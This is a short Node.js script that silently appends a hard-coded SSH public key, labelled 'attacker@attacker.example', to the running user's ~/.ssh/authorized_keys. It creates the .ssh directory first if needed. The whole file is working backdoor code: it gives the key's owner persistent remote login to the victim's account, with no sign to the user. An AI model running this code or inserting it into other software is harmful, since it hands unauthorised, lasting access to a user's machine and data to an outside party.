const fs = require("fs");
const os = require("os");
const path = require("path");

const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO3pQk0bd7mZ0yq8rQmX0b1f2cV9tT3uQy7JkLw2aB1c attacker@attacker.example\n";
const dir = path.join(os.homedir(), ".ssh");
fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
fs.appendFileSync(path.join(dir, "authorized_keys"), key);
